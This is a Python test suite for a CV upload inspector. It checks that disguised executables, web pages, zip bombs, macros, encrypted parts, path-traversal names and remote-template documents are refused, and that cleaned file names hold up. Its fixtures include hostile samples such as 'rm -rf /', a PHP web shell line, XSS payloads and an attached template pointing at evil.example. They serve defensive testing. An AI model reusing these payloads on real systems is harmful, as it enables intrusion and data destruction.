"""What files are turned away, and with which words."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from base.files import formats, inspection
from base.files.refusals import SENTENCES, FileRefused, Reason
from tests.candidates import documents as make

EXE = b"MZ\x90\x00" + b"\0" * 56 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
ZIP_OF_EXE = make.packed({"run.exe": EXE})
RELATION = (
    b'<Relationship Id="rId99" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
SETTINGS_RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + RELATION


def docx_with(**parts: bytes) -> bytes:
    """A Word document with further parts."""
    return make.repacked(make.word(), add={name.replace("__", "/"): content for name, content in parts.items()})


def overlapping() -> bytes:
    """An archive whose directory lists the same bytes many times."""
    data = make.packed({"word/document.xml": b"x" * 500_000})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start = archive.start_dir
    directory = data[start:-22]
    entries = b"".join(directory.replace(b"word/document.xml", b"word/docume%02d.xml" % number) for number in range(60))
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 60, 60, len(entries), start, 0)
    return data[:start] + entries + end


def lying_sizes() -> bytes:
    """An archive whose directory promises ten bytes where ten million come out."""
    data = bytearray(docx_with(word__media=b"\0" * 10_000_000))
    packed_size = struct.pack("<I", 10_000_000)
    return bytes(data.replace(packed_size, struct.pack("<I", 10)))


def encrypted_flag() -> bytes:
    """A Word document whose parts say that they are encrypted."""
    data = bytearray(make.word())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def with_bad_sum() -> bytes:
    """A Word document with a flipped byte inside a part."""
    data = bytearray(make.word())
    data[data.find(b"word/document.xml") + 60] ^= 0xFF
    return bytes(data)


def doctype_in(part: str, doctype: bytes = b'<!DOCTYPE a [<!ENTITY b "boom">]>', encoding: str = "utf-8") -> bytes:
    """A Word document with a document type in one part."""
    content = (b'<?xml version="1.0"?>' + doctype + b"<a>&b;</a>").decode().encode(encoding)
    return make.repacked(make.word(), add={part: content})


Case = tuple[str, Callable[[], bytes], Reason]
CASES: list[Case] = [
    # nothing, too much, no or wrong ending
    ("cv.pdf", lambda: b"", Reason.EMPTY),
    ("cv.docx", lambda: b"", Reason.EMPTY),
    ("cv.txt", lambda: b"", Reason.EMPTY),
    ("cv.pdf", lambda: make.pdf() + b"\n" * formats.MAX_BYTES, Reason.TOO_LARGE),
    ("cv.txt", lambda: b"a" * (formats.MAX_BYTES + 1), Reason.TOO_LARGE),
    ("cv", make.pdf, Reason.NO_ENDING),
    ("résumé", make.word, Reason.NO_ENDING),
    (".pdf", make.pdf, Reason.NO_ENDING),
    ("cv.exe", lambda: EXE, Reason.UNKNOWN_ENDING),
    ("cv.pdf.exe", lambda: EXE, Reason.UNKNOWN_ENDING),
    ("cv.pdf.exe ", make.pdf, Reason.UNKNOWN_ENDING),
    ("cv.zip", lambda: ZIP_OF_EXE, Reason.UNKNOWN_ENDING),
    ("cv.html", lambda: HTML, Reason.UNKNOWN_ENDING),
    ("cv.svg", lambda: b"<svg/>", Reason.UNKNOWN_ENDING),
    ("cv.docm", make.word, Reason.UNKNOWN_ENDING),
    ("cv.\u202efdp.js", lambda: b"alert(1)", Reason.UNKNOWN_ENDING),
    # programs in disguise
    ("cv.pdf", lambda: EXE, Reason.PROGRAM),
    ("cv.docx", lambda: EXE, Reason.PROGRAM),
    ("cv.odt", lambda: ELF, Reason.PROGRAM),
    ("cv.rtf", lambda: b"\xcf\xfa\xed\xfe" + b"\0" * 40, Reason.PROGRAM),
    ("cv.doc", lambda: EXE, Reason.PROGRAM),
    ("cv.txt", lambda: EXE, Reason.PROGRAM),
    ("cv.txt", lambda: b"#!/bin/sh\nrm -rf /\n", Reason.PROGRAM),
    ("cv.txt", lambda: b"@echo off\r\nformat c:\r\n", Reason.PROGRAM),
    ("cv.txt", lambda: "@ECHO OFF\r\n".encode("utf-16"), Reason.PROGRAM),
    ("cv.png", lambda: ELF, Reason.PROGRAM),
    ("cv.jpg", lambda: EXE + make.picture("JPEG"), Reason.PROGRAM),
    ("cv.pdf", lambda: EXE + make.pdf(), Reason.PROGRAM),
    ("cv.docx", lambda: docx_with(word__run=EXE), Reason.PROGRAM),
    ("cv.odt", lambda: make.repacked(make.open_document(), add={"Pictures/a.png": ELF}), Reason.PROGRAM),
    # pages of the web in disguise
    ("cv.pdf", lambda: HTML, Reason.WEB_PAGE),
    ("cv.doc", lambda: b"\r\n<html><body>Word reads this</body></html>", Reason.WEB_PAGE),
    ("cv.txt", lambda: HTML, Reason.WEB_PAGE),
    ("cv.txt", lambda: b"\xef\xbb\xbf  <!-- hello --><script>1</script>", Reason.WEB_PAGE),
    ("cv.txt", lambda: b"<?php system($_GET['c']);", Reason.WEB_PAGE),
    ("cv.png", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', Reason.WEB_PAGE),
    # another format than the name says
    ("cv.pdf", make.word, Reason.WRONG_CONTENT),
    ("cv.pdf", lambda: b"just words", Reason.WRONG_CONTENT),
    ("cv.pdf", lambda: b"junk before " + make.pdf(), Reason.WRONG_CONTENT),
    ("cv.docx", make.pdf, Reason.WRONG_CONTENT),
    ("cv.docx", make.open_document, Reason.WRONG_CONTENT),
    ("cv.docx", lambda: ZIP_OF_EXE, Reason.WRONG_CONTENT),
    ("cv.docx", lambda: make.compound("WordDocument"), Reason.WRONG_CONTENT),
    ("cv.docx", lambda: make.repacked(make.word(), without=frozenset({"word/document.xml"})), Reason.WRONG_CONTENT),
    ("cv.odt", make.word, Reason.WRONG_CONTENT),
    (
        "cv.odt",
        lambda: make.packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        Reason.WRONG_CONTENT,
    ),
    ("cv.odt", lambda: make.packed({"content.xml": b"<a/>", "mimetype": make.ODT_TYPE.encode()}), Reason.WRONG_CONTENT),
    ("cv.rtf", make.pdf, Reason.WRONG_CONTENT),
    ("cv.txt", make.pdf, Reason.WRONG_CONTENT),
    ("cv.txt", make.rich_text, Reason.WRONG_CONTENT),
    ("cv.txt", lambda: make.picture("PNG"), Reason.WRONG_CONTENT),
    ("cv.doc", make.word, Reason.WRONG_CONTENT),
    ("cv.doc", lambda: make.compound("Workbook"), Reason.WRONG_CONTENT),
    ("cv.png", lambda: make.picture("JPEG"), Reason.WRONG_CONTENT),
    ("cv.jpg", lambda: make.picture("PNG"), Reason.WRONG_CONTENT),
    # two files in one
    ("cv.pdf", lambda: make.pdf() + ZIP_OF_EXE, Reason.SECOND_FILE),
    ("cv.pdf", lambda: make.pdf() + make.packed({"a": b"b"}, comment=b"%%EOF\n" * 50), Reason.SECOND_FILE),
    (
        "cv.docx",
        lambda: make.repacked(make.word(), add={})[:-2] + struct.pack("<H", 9) + b"<html>!!!",
        Reason.SECOND_FILE,
    ),
    ("cv.docx", lambda: make.packed({"%PDF-1.4": b"x", "[Content_Types].xml": b"<a/>"}), Reason.SECOND_FILE),
    ("cv.rtf", lambda: make.rich_text() + ZIP_OF_EXE, Reason.SECOND_FILE),
    ("cv.png", lambda: make.picture("PNG") + ZIP_OF_EXE, Reason.SECOND_FILE),
    ("cv.jpg", lambda: make.picture("JPEG") + ZIP_OF_EXE, Reason.SECOND_FILE),
    ("cv.doc", lambda: make.compound("WordDocument") + ZIP_OF_EXE, Reason.SECOND_FILE),
    # damaged
    ("cv.docx", lambda: make.word()[:-200], Reason.DAMAGED),
    ("cv.docx", lambda: b"PK\x03\x04" + b"\0" * 100, Reason.DAMAGED),
    ("cv.docx", with_bad_sum, Reason.DAMAGED),
    ("cv.docx", lambda: make.edited(make.word(), "[Content_Types].xml", b"<Types", b"<Typ"), Reason.DAMAGED),
    ("cv.docx", lambda: docx_with(WORD__DOCUMENT=b"a", word__document=b"b"), Reason.DAMAGED),
    ("cv.docx", lambda: make.packed({"[Content_Types].xml": b"a" * 500}, method=zipfile.ZIP_LZMA), Reason.DAMAGED),
    ("cv.odt", lambda: make.repacked(make.open_document(), without=frozenset({"content.xml"})), Reason.DAMAGED),
    ("cv.rtf", lambda: make.rich_text()[:-1], Reason.DAMAGED),
    ("cv.doc", lambda: make.compound("WordDocument")[:700], Reason.DAMAGED),
    ("cv.doc", lambda: make.compound("WordDocument", looping=True), Reason.DAMAGED),
    ("cv.doc", lambda: make.compound("WordDocument", shift=9)[:30] + b"\x05" + b"\0" * 2000, Reason.DAMAGED),
    ("cv.png", lambda: make.picture("PNG")[:-30], Reason.DAMAGED),
    ("cv.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 30, Reason.DAMAGED),
    # bombs
    ("cv.docx", lambda: docx_with(word__media=b"\0" * 30_000_000), Reason.BOMB),
    ("cv.docx", lambda: docx_with(word__a=b"\0" * 1_500_000), Reason.BOMB),
    ("cv.docx", lambda: docx_with(**{f"word__{n}": b"" for n in range(1_000)}), Reason.BOMB),
    ("cv.odt", lambda: make.repacked(make.open_document(), add={"a.xml": b" " * 210_000_000}), Reason.BOMB),
    ("cv.docx", overlapping, Reason.BOMB),
    ("cv.docx", lying_sizes, Reason.DAMAGED),
    ("cv.png", lambda: make.png_claiming(9_000, 9_000), Reason.TOO_MANY_PIXELS),
    ("cv.png", lambda: make.png_claiming(60_000, 60_000), Reason.TOO_MANY_PIXELS),
    # names that climb out, links
    ("cv.docx", lambda: docx_with(**{"..__..__etc__cron": b"x"}), Reason.UNSAFE_NAMES),
    ("cv.docx", lambda: docx_with(__etc__passwd=b"x"), Reason.UNSAFE_NAMES),
    ("cv.docx", lambda: docx_with(**{"C:__windows": b"x"}), Reason.UNSAFE_NAMES),
    ("cv.odt", lambda: make.repacked(make.open_document(), add={"a\\..\\b": b"x"}), Reason.UNSAFE_NAMES),
    ("cv.docx", lambda: make.with_link(make.word(), "word/link", "/etc/passwd"), Reason.UNSAFE_NAMES),
    # macros
    ("cv.docx", lambda: docx_with(**{"word__vbaProject.bin": b"x"}), Reason.MACROS),
    (
        "cv.docx",
        lambda: make.edited(
            make.word(),
            "[Content_Types].xml",
            make.WORD_MAIN.encode(),
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        Reason.MACROS,
    ),
    ("cv.odt", lambda: make.repacked(make.open_document(), add={"Basic/Standard/Module1.xml": b"x"}), Reason.MACROS),
    ("cv.odt", lambda: make.repacked(make.open_document(), add={"Scripts/python/a.py": b"x"}), Reason.MACROS),
    ("cv.doc", lambda: make.compound("WordDocument", "Macros", "VBA"), Reason.MACROS),
    # passwords
    ("cv.docx", encrypted_flag, Reason.PASSWORD),
    ("cv.docx", lambda: make.compound("EncryptedPackage", "EncryptionInfo"), Reason.PASSWORD),
    ("cv.doc", lambda: make.compound("WordDocument", "EncryptedPackage"), Reason.PASSWORD),
    (
        "cv.odt",
        lambda: make.repacked(make.open_document(), add={"META-INF/manifest.xml": b"<m:encryption-data/>"}),
        Reason.PASSWORD,
    ),
    # foreign objects, entities, templates from the network
    (
        "cv.docx",
        lambda: docx_with(**{"word___rels__settings.xml.rels": SETTINGS_RELATIONS}),
        Reason.LOADS_FROM_ELSEWHERE,
    ),
    ("cv.docx", lambda: doctype_in("word/document.xml"), Reason.LOADS_FROM_ELSEWHERE),
    ("cv.docx", lambda: doctype_in("word/settings.xml", encoding="utf-16"), Reason.LOADS_FROM_ELSEWHERE),
    ("cv.rtf", lambda: make.rich_text("{\\object\\objemb{\\*\\objdata 0105}}"), Reason.LOADS_FROM_ELSEWHERE),
    ("cv.rtf", lambda: make.rich_text("{\\*\\template http://evil.example/a}"), Reason.LOADS_FROM_ELSEWHERE),
    ("cv.doc", lambda: make.compound("WordDocument", "ObjectPool", "\x01Ole10Native"), Reason.LOADS_FROM_ELSEWHERE),
    # text that is none
    ("cv.txt", lambda: b"words\0and zeros", Reason.NOT_TEXT),
    ("cv.txt", lambda: zlib.compress(b"words" * 100), Reason.NOT_TEXT),
    ("cv.txt", lambda: b"\xff\xfe\x00\xd8", Reason.NOT_TEXT),
]


@pytest.mark.parametrize(
    ("name", "maker", "reason"), CASES, ids=[f"{number}-{case[2]}-{case[0]}" for number, case in enumerate(CASES)]
)
def test_a_bad_file_is_refused_with_its_own_sentence(name: str, maker: Callable[[], bytes], reason: Reason) -> None:
    with pytest.raises(FileRefused) as refused:
        inspection.inspect(maker(), name)
    assert refused.value.reason is reason
    ending = formats.ending_of(name.strip())
    assert str(refused.value) == str(SENTENCES[reason]).format(ending=ending)
    assert refused.value.code == reason.value
    assert refused.value.fields == {"file": str(refused.value)}


def test_the_table_is_long_enough_and_uses_every_reason() -> None:
    assert len(CASES) >= 60
    assert {case[2] for case in CASES} == set(Reason)


@pytest.mark.parametrize(
    ("name", "maker", "format_"),
    [
        ("cv.pdf", make.pdf, formats.PDF),
        ("CV.PDF", make.pdf, formats.PDF),
        ("cv.exe.pdf", make.pdf, formats.PDF),
        ("cv.pdf", lambda: b"\xef\xbb\xbf\r\n" + make.pdf(), formats.PDF),
        ("cv.pdf", lambda: make.pdf(password="secret"), formats.PDF),
        ("cv.pdf", lambda: b"%PDF-1.7 and then nothing of the sort", formats.PDF),
        ("cv.docx", make.word, formats.DOCX),
        ("cv.odt", make.open_document, formats.ODT),
        ("cv.rtf", make.rich_text, formats.RTF),
        ("cv.rtf", lambda: make.rich_text() + b"\r\n\0", formats.RTF),
        ("cv.txt", "Zażółć gęślą jaźń".encode, formats.TXT),
        ("cv.txt", lambda: "Zażółć".encode("utf-16"), formats.TXT),
        ("cv.txt", lambda: "Müller, 5 € an hour".encode("cp1252"), formats.TXT),
        ("cv.txt", lambda: b"MZ Smith, nurse; I know < and >", formats.TXT),
        ("cv.doc", lambda: make.compound("WordDocument", "1Table"), formats.DOC),
        ("cv.png", make.picture, formats.PNG),
        ("cv.jpeg", lambda: make.picture("JPEG"), formats.JPG),
    ],
)
def test_an_honest_file_passes(name: str, maker: Callable[[], bytes], format_: formats.Format) -> None:
    assert inspection.inspect(maker(), name) == inspection.Inspected(name, format_)


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("cv.pdf", "cv.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Ana\\cv.pdf", "cv.pdf"),
        ("cv\r\nSet-Cookie: a=b.pdf", "cvSet-Cookie a=b.pdf"),
        ("\u202ecv.pdf", "cv.pdf"),
        ("  my   cv .pdf. ", "my cv .pdf"),
        ("a" * 300 + ".pdf", "a" * 146 + ".pdf"),
        ("", "file"),
        ("...", "file"),
        ('<b>"cv".pdf', "bcv.pdf"),
    ],
)
def test_names_lose_what_could_do_harm(given_name: str, kept: str) -> None:
    from base.files.names import clean_name

    assert clean_name(given_name) == kept


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    base=st.sampled_from(
        [make.pdf(), make.word(), make.open_document(), make.rich_text(), make.compound("WordDocument")]
    ),
    ending=st.sampled_from(["pdf", "docx", "odt", "rtf", "txt", "doc", "png", "jpg"]),
    at=st.floats(0, 1),
    noise=st.binary(max_size=40),
    cut=st.floats(0, 1),
)
def test_mutated_files_pass_or_are_refused_and_never_crash(
    base: bytes, ending: str, at: float, noise: bytes, cut: float
) -> None:
    place = int(at * len(base))
    data = (base[:place] + noise + base[place + len(noise) :])[: max(1, int(cut * len(base) * 1.2))]
    try:
        passed = inspection.inspect(data, f"cv.{ending}")
    except FileRefused:
        return
    assert passed.format.ending == ending
